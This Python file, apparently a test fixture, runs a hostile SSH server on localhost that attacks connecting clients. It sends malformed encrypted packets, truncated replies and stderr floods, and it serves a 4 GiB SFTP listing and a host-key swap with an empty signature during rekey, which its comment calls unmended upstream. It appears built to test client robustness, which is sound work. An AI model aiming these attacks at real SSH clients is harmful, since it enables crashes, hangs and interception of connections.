#!/usr/bin/env python3
"""An SSH server that attacks its client: it keeps to the protocol up to the one place that ATTACK names.

    evil_ssh.py ATTACK [DIRECTORY]

Prints its port and its host key's line as one line, then serves all who connect, each in a process of its own, on 127.0.0.1.
Everybody is let in. The SFTP behind it is lying_server.py's, with DIRECTORY/lie for its lie. Each attack ends with the
connection, but for those that only disturb: with `none`, `mixed-*` or `sig-algs*` it is a server like any other.
"""
import hashlib
import hmac
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.poly1305 import Poly1305
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

DISCONNECT, DEBUG, SERVICE_REQUEST, SERVICE_ACCEPT, EXT_INFO = 1, 4, 5, 6, 7
KEXINIT, NEWKEYS, KEX_INIT, KEX_REPLY = 20, 21, 30, 31
USERAUTH_REQUEST, USERAUTH_FAILURE, USERAUTH_SUCCESS, USERAUTH_PK_OK = 50, 51, 52, 60
CHANNEL_OPEN, OPEN_CONFIRMATION = 90, 91
DATA, EXTENDED_DATA, CLOSE, REQUEST, SUCCESS = 94, 95, 97, 98, 99

CHACHA, CTR, GCM = b'chacha20-poly1305@openssh.com', b'aes128-ctr', b'aes128-gcm@openssh.com'
ETM, MAC, MAC512 = b'hmac-sha2-256-etm@openssh.com', b'hmac-sha2-256', b'hmac-sha2-512'


def u32(n):
    return struct.pack('>I', n)


def string(s):
    return u32(len(s)) + s


def strings(data, at, count):
    out = []
    for _ in range(count):
        n = struct.unpack_from('>I', data, at)[0]
        out.append(data[at + 4:at + 4 + n])
        at += 4 + n
    return out


def mpint(n):
    return string(n.to_bytes(n.bit_length() // 8 + 1, 'big') if n else b'')


def public(key):
    return key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)


class Plain:
    """Packets before the first key exchange; those of the ciphers below are its siblings."""
    blocks, counts_length = 8, True  # a packet is a multiple of this, with its length or without

    def pad(self, payload):
        n = self.blocks - (len(payload) + 1 + 4 * self.counts_length) % self.blocks
        n += self.blocks * (n < 4)
        return bytes([n]) + payload + bytes(n)

    def seal(self, body, number, length=None):
        """What goes over the wire for the body of a packet, which `length` lies about."""
        return u32(len(body) if length is None else length) + body

    def open(self, read, number):
        return read(struct.unpack('>I', read(4))[0])


class Chacha(Plain):
    counts_length = False
    key_size, iv_size = 64, 0

    def __init__(self, key, iv, mac, mac_key):
        self.main, self.head = key[:32], key[32:]

    def stream(self, key, number, counter):
        return Cipher(algorithms.ChaCha20(key, struct.pack('<Q', counter) + struct.pack('>Q', number)), None).encryptor()

    def seal(self, body, number, length=None):
        sealed = self.stream(self.head, number, 0).update(u32(len(body) if length is None else length))
        sealed += self.stream(self.main, number, 1).update(body)
        return sealed + Poly1305.generate_tag(self.stream(self.main, number, 0).update(bytes(32)), sealed)

    def open(self, read, number):
        size = struct.unpack('>I', self.stream(self.head, number, 0).update(read(4)))[0]
        body = self.stream(self.main, number, 1).update(read(size))
        read(16)
        return body


class Gcm(Plain):
    blocks, counts_length = 16, False
    key_size, iv_size = 16, 12

    def __init__(self, key, iv, mac, mac_key):
        self.aead, self.iv = AESGCM(key), iv

    def nonce(self):
        now = self.iv
        self.iv = now[:4] + struct.pack('>Q', (struct.unpack('>Q', now[4:])[0] + 1) & (2**64 - 1))
        return now

    def seal(self, body, number, length=None):
        head = u32(len(body) if length is None else length)
        return head + self.aead.encrypt(self.nonce(), body, head)

    def open(self, read, number):
        head = read(4)
        return self.aead.decrypt(self.nonce(), read(struct.unpack('>I', head)[0] + 16), head)


class Ctr(Plain):
    blocks = 16
    key_size, iv_size = 16, 16

    def __init__(self, key, iv, mac, mac_key):
        self.cipher = Cipher(algorithms.AES(key), modes.CTR(iv)).encryptor()  # both ways the same
        self.etm, self.hash, self.mac_key = mac == ETM, hashlib.sha512 if mac == MAC512 else hashlib.sha256, mac_key
        self.counts_length = not self.etm

    def tag(self, number, data):
        return hmac.new(self.mac_key, u32(number) + data, self.hash).digest()

    def seal(self, body, number, length=None):
        head = u32(len(body) if length is None else length)
        if self.etm:
            sealed = head + self.cipher.update(body)
            return sealed + self.tag(number, sealed)
        return self.cipher.update(head + body) + self.tag(number, head + body)

    def open(self, read, number):
        if self.etm:
            body = self.cipher.update(read(struct.unpack('>I', read(4))[0]))
        else:
            first = self.cipher.update(read(16))
            body = first[4:] + self.cipher.update(read(struct.unpack('>I', first[:4])[0] - 12))
        read(self.hash().digest_size)
        return body


CIPHERS = {CHACHA: Chacha, CTR: Ctr, GCM: Gcm}


class Gone(Exception):
    """The client hung up, which ends its connection and nothing else."""


class Connection:
    host_key = Ed25519PrivateKey.from_private_bytes(b'\1' * 32)
    host_blob = string(b'ssh-ed25519') + string(public(host_key))

    def __init__(self, sock):
        self.sock, self.buffer = sock, b''
        self.ours, self.theirs = Plain(), Plain()
        self.sent = self.got = 0
        self.session = None
        self.methods = {'kex': b'curve25519-sha256', 'in': CHACHA, 'out': CHACHA, 'in_mac': MAC, 'out_mac': MAC}

    # -- packets --

    def read(self, size):
        while len(self.buffer) < size:
            more = self.sock.recv(1 << 16)
            if not more:
                raise Gone
            self.buffer += more
        out, self.buffer = self.buffer[:size], self.buffer[size:]
        return out

    def receive(self, *wanted):
        """The next packet of one of these types; others are passed over."""
        while True:
            body = self.theirs.open(self.read, self.got)
            self.got += 1
            payload = body[1:len(body) - body[0]]
            if payload[0] == DISCONNECT:
                raise Gone
            if not wanted or payload[0] in wanted:
                return payload

    def seal(self, payload):
        self.sent += 1
        return self.ours.seal(self.ours.pad(payload), self.sent - 1)

    def send(self, payload):
        self.sock.sendall(self.seal(payload))

    # -- the key exchange --

    def kexinit(self):
        m = self.methods
        lists = [m['kex'], b'ssh-ed25519', m['in'], m['out'], m['in_mac'], m['out_mac'], b'none', b'none', b'', b'']
        return bytes([KEXINIT]) + os.urandom(16) + b''.join(map(string, lists)) + b'\0' * 5

    def exchange(self):
        mine = self.kexinit()
        self.send(mine)
        theirs = self.receive(KEXINIT)
        point = strings(self.receive(KEX_INIT), 1, 1)[0]
        secret = X25519PrivateKey.generate()
        shared = int.from_bytes(secret.exchange(X25519PublicKey.from_public_bytes(point)), 'big')
        h = hashlib.sha256(b''.join(map(string, [self.client_banner, self.banner, theirs, mine, self.host_blob, point, public(secret)]))
                           + mpint(shared)).digest()
        self.session = self.session or h
        signature = string(b'ssh-ed25519') + string(self.host_key.sign(h))
        self.send(bytes([KEX_REPLY]) + string(self.host_blob) + string(public(secret)) + string(signature))
        self.send(bytes([NEWKEYS]))

        def derive(letter, size):
            out = hashlib.sha256(mpint(shared) + h + letter + self.session).digest()
            while len(out) < size:
                out += hashlib.sha256(mpint(shared) + h + out).digest()
            return out[:size]

        def made(cipher, mac, iv, key, mac_key):
            kind = CIPHERS[cipher]
            return kind(derive(key, kind.key_size), derive(iv, kind.iv_size), mac, derive(mac_key, 64 if mac == MAC512 else 32))

        m = self.methods
        self.ours = made(m['out'], m['out_mac'], b'B', b'D', b'F')
        self.receive(NEWKEYS)
        self.theirs = made(m['in'], m['in_mac'], b'A', b'C', b'E')

    def greet(self):
        self.banner = b'SSH-2.0-evil'
        self.sock.sendall(self.banner + b'\r\n')
        while b'\n' not in self.buffer:
            self.buffer += self.sock.recv(4096) or b'\n'
        line, self.buffer = self.buffer.split(b'\n', 1)
        self.client_banner = line.rstrip(b'\r')

    # -- from the service request to the channel --

    def accept_service(self):
        self.receive(SERVICE_REQUEST)
        self.send(bytes([SERVICE_ACCEPT]) + string(b'ssh-userauth'))

    def log_in(self):
        while True:
            request = self.receive(USERAUTH_REQUEST)
            user, service, method = strings(request, 1, 3)
            at = 13 + len(user) + len(service) + len(method)
            if method == b'publickey' and request[at] == 0:
                self.send(bytes([USERAUTH_PK_OK]) + request[at + 1:])
            elif method == b'none':
                self.send(bytes([USERAUTH_FAILURE]) + string(b'publickey,password') + b'\0')
            else:
                self.send(bytes([USERAUTH_SUCCESS]))
                return

    def open_channel(self):
        opening = self.receive(CHANNEL_OPEN)
        self.channel = opening[12:16]  # behind "session"
        self.send(bytes([OPEN_CONFIRMATION]) + self.channel + u32(0) + u32(0x7fffffff) + u32(32768))
        self.receive(REQUEST)
        self.send(bytes([SUCCESS]) + self.channel)

    def to_sftp(self):
        self.greet()
        self.exchange()
        self.accept_service()
        self.log_in()
        self.open_channel()

    def serve(self, first=b''):
        """Passes data on between the channel and lying_server.py, behind what is left of a packet."""
        self.sock.sendall(first)
        here = os.path.dirname(os.path.abspath(__file__))
        behind = subprocess.Popen([sys.executable, os.path.join(here, '..', 'lying_server.py'), os.path.join(directory, 'lie')],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        try:
            while True:
                ready = [self.sock] if self.buffer else select.select([self.sock, behind.stdout], [], [])[0]
                if behind.stdout in ready:
                    data = os.read(behind.stdout.fileno(), 32768)
                    if not data:
                        return
                    self.send(bytes([DATA]) + self.channel + string(data))
                if self.sock in ready:
                    packet = self.receive()
                    if packet[0] == CLOSE:
                        return
                    if packet[0] == DATA:
                        behind.stdin.write(packet[9:])
                        behind.stdin.flush()
        finally:
            behind.kill()
            behind.wait()


# ---- the attacks ---------------------------------------------------------------------------------

def to_handshake(c, **methods):
    """To where the client waits in its handshake for its service, before it looks at the host key."""
    c.methods.update(methods)
    c.greet()
    c.exchange()
    c.receive(SERVICE_REQUEST)


def of(cipher, mac=MAC):
    return {'in': cipher, 'out': cipher, 'in_mac': mac, 'out_mac': mac}


def none(c):
    c.to_sftp()
    c.serve()


def etm_padding(c):
    """18c3a345: more padding than packet, in an -etm packet; then a message whose length is beyond all memory."""
    to_handshake(c, **of(CTR, ETM))
    c.sock.sendall(c.ours.seal(b'\xff' + bytes([DEBUG, 0]) + u32(0x7fffff00) + bytes(9), c.sent))


def length(c, cipher, size):
    """A packet of a length that no packet has, well sealed; in two pieces, for what is decrypted as it comes."""
    to_handshake(c, **of(*cipher))
    sealed = c.ours.seal(bytes(size), c.sent)
    c.sock.sendall(sealed[:21])
    time.sleep(0.1)
    c.sock.sendall(sealed[21:] + bytes(64))


def flipped(c, cipher):
    """One bit wrong, as anybody on the way can do it."""
    to_handshake(c, **of(*cipher))
    sealed = bytearray(c.seal(bytes([SERVICE_ACCEPT]) + string(b'ssh-userauth')))
    sealed[-1] ^= 1
    c.sock.sendall(sealed)
    time.sleep(20)


def mixed(c, theirs, ours):
    """d8ae40ba: another cipher for each direction, which the protocol allows."""
    c.methods.update({'in': theirs, 'out': ours})
    none(c)


def only_kex(c, name):
    """631e2f82: nothing in common but what the client puts among its key exchanges to say what it knows."""
    c.methods['kex'] = name
    c.greet()
    c.send(c.kexinit())
    c.receive(KEXINIT)
    c.receive()


def short_accept(c):
    """ce2a7b80: an answer that ends within the name of the service, and with it the buffer: no padding behind it."""
    to_handshake(c, **of(CTR, ETM))
    c.sock.sendall(c.ours.seal(b'\0' + bytes([SERVICE_ACCEPT]) + u32(12) + b'ssh-userau', c.sent))
    c.receive()


def rekey(c, first, then):
    """New keys, and another cipher or MAC with them."""
    to_handshake(c, **of(*first))
    c.methods.update(of(*then))
    c.exchange()
    c.send(bytes([SERVICE_ACCEPT]) + string(b'ssh-userauth'))
    c.log_in()
    c.open_channel()
    c.serve()


def stolen(c):
    """Not mended upstream: keys agreed on with a host key of ours, then, when new ones are to be, the host's own key, which
    all may know, with a signature that is none; then all goes on with the keys that are there."""
    c.host_key = Ed25519PrivateKey.generate()
    c.host_blob = string(b'ssh-ed25519') + string(public(c.host_key))
    to_handshake(c)
    signature = string(b'ssh-ed25519') + string(bytes(64))
    reply = bytes([KEX_REPLY]) + string(Connection.host_blob) + string(public(X25519PrivateKey.generate())) + string(signature)
    # At once, so that the client sees the end of the exchange where it sees its beginning.
    c.sock.sendall(c.seal(c.kexinit()) + c.seal(reply) + c.seal(bytes([SERVICE_ACCEPT]) + string(b'ssh-userauth')))
    c.log_in()
    c.open_channel()
    c.serve()


def sig_algs(c, value):
    """b671ac9b: more algorithms for signatures than the client knows, by repeating one."""
    c.greet()
    c.exchange()
    c.send(bytes([EXT_INFO]) + u32(1) + string(b'server-sig-algs') + string(value))
    c.accept_service()
    c.log_in()
    c.open_channel()
    c.serve()


def stderr(c, then):
    """bf7fa4c1, 823a2286: words for stderr, until the client, which has to make room for each, can send no more; then the
    end, or nothing any more, or all as it should be."""
    c.methods.update(of(GCM))  # the fastest here
    c.to_sftp()
    pending = b''
    while select.select([], [c.sock], [], 0.5)[1]:
        pending = pending or b''.join(c.seal(bytes([EXTENDED_DATA]) + c.channel + u32(1) + string(b'x')) for _ in range(500))
        pending = pending[c.sock.send(pending, socket.MSG_DONTWAIT):]
    if then == 'stalls':
        time.sleep(60)
    if then == 'on':
        c.serve(pending)


def answer(c, wanted, reply):
    """SFTP up to the first request of a type, which gets this answer and silence; `reply` is given the request's number."""
    c.to_sftp()
    pending = b''
    while True:
        packet = c.receive(DATA)
        pending += packet[9:]
        while len(pending) >= 4 and len(pending) >= 4 + struct.unpack('>I', pending[:4])[0]:
            size = struct.unpack('>I', pending[:4])[0]
            kind, number = pending[4], pending[5:9]
            pending = pending[4 + size:]
            if kind == wanted:
                for piece in reply(number):
                    c.send(bytes([DATA]) + c.channel + string(piece))
                continue
            plain = {1: lambda: bytes([2]) + u32(3), 11: lambda: bytes([102]) + number + string(b'1'),
                     16: lambda: bytes([104]) + number + u32(1) + string(b'/home') + string(b'') + u32(0)}.get(kind)
            body = plain() if plain else bytes([101]) + number + u32(4) + string(b'') + string(b'')
            c.send(bytes([DATA]) + c.channel + string(string(body)))


def huge_listing(number):
    """e3379a5c: a listing of 4 GiB, and as much of it as is taken."""
    yield u32(0xfffffff0) + bytes([104]) + number + u32(1)
    for _ in range(12000):
        yield bytes(30000)


def refused_path(number):
    yield string(bytes([101]) + number + u32(3) + string(b'not for you') + string(b''))


SIZES = {'chacha': ((CHACHA,), range(1, 8)), 'ctr': ((CTR, MAC), (1, 11, 13, 29)), 'etm': ((CTR, ETM), (1, 15, 17, 33)),
         'gcm': ((GCM,), (1, 5, 15, 17, 31))}
KINDS = {'chacha': CHACHA, 'ctr': CTR, 'gcm': GCM}
ATTACKS = {
    'none': none,
    'etm-padding': etm_padding,
    'service': short_accept,
    'stderr': lambda c: stderr(c, 'end'),
    'stderr-stalls': lambda c: stderr(c, 'stalls'),
    'stderr-on': lambda c: stderr(c, 'on'),
    'sig-algs': lambda c: sig_algs(c, b','.join([b'rsa-sha2-512', b'rsa-sha2-256', b'ssh-rsa'] * 400)),
    'sig-algs-two': lambda c: sig_algs(c, b','.join([b'rsa-sha2-256'] * 2 + [b'rsa-sha2-512'] * 2 + [b'ssh-rsa'] * 2)),
    'sig-algs-none': lambda c: sig_algs(c, b''),
    'sig-algs-others': lambda c: sig_algs(c, b'ssh-ed25519,,,rsa-sha2-5,' + b'x' * 20000),
    'kex-ext-info': lambda c: only_kex(c, b'ext-info-c'),
    'kex-strict': lambda c: only_kex(c, b'kex-strict-c-v00@openssh.com'),
    'rekey-chacha-ctr': lambda c: rekey(c, (CHACHA,), (CTR,)),
    'rekey-ctr-chacha': lambda c: rekey(c, (CTR,), (CHACHA,)),
    'rekey-gcm-ctr': lambda c: rekey(c, (GCM,), (CTR,)),
    'rekey-ctr-mac': lambda c: rekey(c, (CTR,), (CTR, MAC512)),
    'rekey-same': lambda c: rekey(c, (CHACHA,), (CHACHA,)),
    'stolen': stolen,
    'listing': lambda c: answer(c, 12, huge_listing),
    'realpath': lambda c: answer(c, 16, refused_path),
}
for name, (cipher, sizes) in SIZES.items():
    ATTACKS['flip-' + name] = lambda c, cipher=cipher: flipped(c, cipher)
    for size in sizes:
        ATTACKS['%s-%d' % (name, size)] = lambda c, cipher=cipher, size=size: length(c, cipher, size)
for theirs, a in KINDS.items():
    for ours, b in KINDS.items():
        ATTACKS['mixed-%s-%s' % (theirs, ours)] = lambda c, a=a, b=b: mixed(c, a, b)


def main():
    listener = socket.socket()
    if attack.startswith('stderr'):  # little fits on the line, and into the client's own buffer
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
    listener.bind(('127.0.0.1', 0))
    listener.listen(20)
    line = subprocess.run(['base64', '-w0'], input=Connection.host_blob, stdout=subprocess.PIPE, check=True).stdout.decode()
    print(listener.getsockname()[1], 'ssh-ed25519', line, flush=True)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        sock, _ = listener.accept()
        if os.fork():
            sock.close()
            continue
        signal.signal(signal.SIGCHLD, signal.SIG_DFL)
        listener.close()
        try:
            ATTACKS[attack](Connection(sock))
        except (Gone, ConnectionError, InvalidTag):
            pass
        os._exit(0)


if __name__ == '__main__':
    attack = sys.argv[1]
    directory = sys.argv[2] if len(sys.argv) > 2 else '/nonexistent'
    main()
